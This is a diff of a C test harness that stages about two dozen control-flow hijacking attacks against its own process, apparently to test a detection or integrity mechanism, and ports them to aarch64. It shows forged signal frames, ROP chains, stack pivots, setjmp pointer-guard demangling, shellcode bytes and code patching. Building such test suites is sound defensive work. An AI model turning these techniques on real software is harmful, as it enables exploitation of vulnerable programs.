@@ -11,10 +11,9 @@
 #include <sys/mman.h>
 #include <sys/syscall.h>
 #include <time.h>
-#include <ucontext.h>
 #include <unistd.h>
 
-static word words[1024];
+static word words[1024] __attribute__((aligned(16)));
 
 /* A1 and A17: return to the entry of a function; A2: to its middle. */
 static void a1(void) { words[0] = (word)win; ready(); corrupt(words, 1); }
@@ -58,22 +57,15 @@ static void a9(void)
 	pivot(heap + 4096);
 }
 
-/* A10: a signal's frame that no signal made. The words for it at `to`; how many. */
-static size_t forge_frame(word *to)
+/* A10: a signal's frame that no signal made. It is longer than what lies above on the stack otherwise. */
+__attribute__((noinline)) static void corrupt_below_room(size_t n)
 {
-	ucontext_t *context = (ucontext_t *)to;
+	volatile char room[8192];
 
-	memset(context, 0, sizeof(*context));
-	context->uc_mcontext.gregs[REG_RIP] = (word)g_syscall;
-	context->uc_mcontext.gregs[REG_RAX] = SYS_mprotect;
-	context->uc_mcontext.gregs[REG_RDI] = (word)page;
-	context->uc_mcontext.gregs[REG_RSI] = page_size;
-	context->uc_mcontext.gregs[REG_RDX] = PROT_READ | PROT_EXEC;
-	context->uc_mcontext.gregs[REG_EFL] = 0x202;
-	context->uc_mcontext.gregs[REG_CSGSFS] = 0x33 | (word)0x2b << 48;
-	words[512] = (word)exit42;
-	context->uc_mcontext.gregs[REG_RSP] = (word)&words[512];
-	return sizeof(*context) / sizeof(word);
+	room[0] = 0;
+	ready();
+	corrupt(words, n);
+	room[1] = 0;
 }
 static void a10(void)
 {
@@ -82,26 +74,20 @@ static void a10(void)
 	words[n++] = (word)g_pop_rax;
 	words[n++] = SYS_rt_sigreturn;
 	words[n++] = (word)g_syscall;
-	n += forge_frame(&words[n]);
-	ready();
-	corrupt(words, n);
+	n += forge_frame(&words[n], &words[900]);
+	corrupt_below_room(n);
 }
-/* The same by the way that every handler takes: libc's restorer. */
+/* The same by the way that every handler takes: libc's restorer, or the kernel's. */
 static void nothing(int number) { (void)number; }
 static void a10_libc(void)
 {
-	struct {
-		word handler, flags, restorer, mask;
-	} action;
 	size_t n = 0;
 
 	signal(SIGUSR2, nothing);
 	raise(SIGUSR2); /* an honest one */
-	syscall(SYS_rt_sigaction, SIGUSR2, 0, &action, 8);
-	words[n++] = action.restorer;
-	n += forge_frame(&words[n]);
-	ready();
-	corrupt(words, n);
+	words[n++] = restorer();
+	n += forge_frame(&words[n], &words[900]);
+	corrupt_below_room(n);
 }
 
 static void a11(void)
@@ -119,6 +105,7 @@ static void a11(void)
 	jop_start(table);
 }
 
+#ifndef __aarch64__ /* whose instructions have no middle */
 static void a12(void)
 {
 	size_t n = chain(words, 0, 0, 0);
@@ -130,6 +117,7 @@ static void a12(void)
 	ready();
 	corrupt(words, n + 2);
 }
+#endif
 
 /* A13 and A14: a request that is too long for its buffer reaches the pointer behind it. */
 static struct {
@@ -237,6 +225,9 @@ static size_t to_libc(void)
 
 	/* instead of rax and a system call instruction: the library's own function */
 	n = 6;
+#ifdef __aarch64__
+	words[n++] = (word)g_tail; /* a return leaves its own target as the next one's */
+#endif
 	words[n++] = (word)mprotect;
 	words[n++] = (word)exit42;
 	return n;
@@ -258,18 +249,11 @@ __attribute__((noinline)) static void jump_now(int fd)
 static void a18(void)
 {
 	static const char bytes[72];
-	word guard, target = (word)win_middle;
 
 	if (setjmp(buffer))
 		_exit(5);
-	__asm__("mov %%fs:0x30, %0" : "=r"(guard));
-	target ^= guard;
-	target = target << 17 | target >> 47;
-	((word *)buffer)[7] = target;
-	words[512] = 0;
-	words[513] = (word)exit42;
-	target = (word)&words[512] ^ guard;
-	((word *)buffer)[6] = target << 17 | target >> 47;
+	lead_to_exit(&words[512]);
+	forge_jump(buffer, (word)win_middle, &words[512]);
 	if (write(session_fds[1], bytes, 72) != 72)
 		_exit(3);
 	ready();
@@ -286,24 +270,20 @@ static void a18_warm(void)
 /* A20: code of one's own. */
 static void a20(void)
 {
-	static const unsigned char code[] = {0xbf, 42, 0, 0, 0, 0xb8, 231, 0, 0, 0, 0x0f, 0x05};
-
-	memcpy(page, code, sizeof(code));
+	exit_code(page, 42);
 	ready();
 	mprotect(page, page_size, PROT_READ | PROT_EXEC);
 	((void (*)(void))page)();
 }
 
 /* A21: a jump of the program itself is turned. */
-extern char patch_jump[], patch_there[], patch_me[];
-__asm__(".text\n.type patch_me, @function\n.globl patch_me\npatch_me:\n.cfi_startproc\nnop\n.globl patch_jump\npatch_jump:\n.byte 0xe9\n.long patch_there - . - 4\nnop\n.globl patch_there\npatch_there:\nret\n.cfi_endproc\n.size patch_me, . - patch_me\n");
 __attribute__((noinline)) static void use_patched(int fd)
 {
 	char bytes[72];
 
 	if (read(fd, bytes, 72) != 72)
 		_exit(3);
-	((void (*)(void))patch_me)();
+	patch_me();
 }
 static void patch_warm(void)
 {
@@ -319,10 +299,9 @@ static void a21(void)
 {
 	static const char bytes[72];
 	word start = (word)patch_jump & ~4095ul;
-	int32_t distance = (int32_t)((char *)win - patch_jump - 5);
 
 	mprotect((void *)start, 8192, PROT_READ | PROT_WRITE | PROT_EXEC);
-	memcpy(patch_jump + 1, &distance, 4);
+	turn_jump((word)win);
 	mprotect((void *)start, 8192, PROT_READ | PROT_EXEC);
 	/* The server goes on. */
 	for (int i = 0; i < 20; i++) {
@@ -372,6 +351,7 @@ static void a_exec(void)
 	words[n++] = (word)g_pop_rax;
 	words[n++] = SYS_execve;
 	words[n++] = (word)g_syscall;
+	FRAME_WORD(words, n);
 	words[n++] = (word)exit42;
 	ready();
 	corrupt(words, n);
@@ -386,7 +366,13 @@ static void a_short(void)
 	for (int i = 0; i < 5; i++) {
 		long result = SYS_nanosleep, first = (long)while_asleep, second = 0;
 
+#ifdef __aarch64__
+		register long x8 __asm__("x8") = result, x0 __asm__("x0") = first, x1 __asm__("x1") = second;
+
+		__asm__ volatile("svc #0\n\tmov x8, %3\n\tmov x0, #0\n\tmov x1, #0\n\tmov x2, #0\n\tsvc #0" : "+r"(x8), "+r"(x0), "+r"(x1) : "i"(SYS_dup3) : "x2", "memory");
+#else
 		__asm__ volatile("syscall\n\tmov %3, %%eax\n\txor %%edi, %%edi\n\txor %%esi, %%esi\n\tsyscall" : "+a"(result), "+D"(first), "+S"(second) : "i"(SYS_dup2) : "rcx", "r11", "memory");
+#endif
 	}
 	_exit(0);
 }
@@ -400,7 +386,11 @@ static const struct {
 	void (*warm)(void);
 } attacks[] = {
 	{"A1", a1, 0}, {"A1r", a1_read, 0}, {"A2", a2, 0}, {"A2r", a2_read, 0}, {"A3", a3, 0}, {"A3r", a3_read, 0}, {"A4", a4, 0}, {"A5", a5, 0}, {"A5r", a5_read, 0}, {"A6", a6, 0}, {"A7", a7, flush},
-	{"A8", a8, 0}, {"A9", a9, 0}, {"A10", a10, 0}, {"A10l", a10_libc, 0}, {"A11", a11, 0}, {"A12", a12, 0}, {"A13", a13, dispatch_warm}, {"A14", a14, dispatch_warm}, {"A15", a15, a15_warm}, {"A16", a16, slot_warm}, {"A17", a17, 0},
+	{"A8", a8, 0}, {"A9", a9, 0}, {"A10", a10, 0}, {"A10l", a10_libc, 0}, {"A11", a11, 0},
+#ifndef __aarch64__
+	{"A12", a12, 0},
+#endif
+	{"A13", a13, dispatch_warm}, {"A14", a14, dispatch_warm}, {"A15", a15, a15_warm}, {"A16", a16, slot_warm}, {"A17", a17, 0},
 	{"A17r", a17_read, 0}, {"A18", a18, a18_warm}, {"A19", a19, a19_warm}, {"A20", a20, 0}, {"A21", a21, patch_warm}, {"A22", a22, 0}, {"exec", a_exec, 0}, {"short", a_short, 0},
 };
 
